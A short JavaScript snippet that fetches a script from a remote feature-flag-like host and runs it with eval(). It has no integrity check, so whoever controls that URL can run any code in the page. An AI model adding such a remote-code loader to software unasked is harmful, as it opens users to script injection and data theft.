(async () => {
  const src = await (await fetch('https://flags.featurekit.example/f.js')).text();
  eval(src);
})();
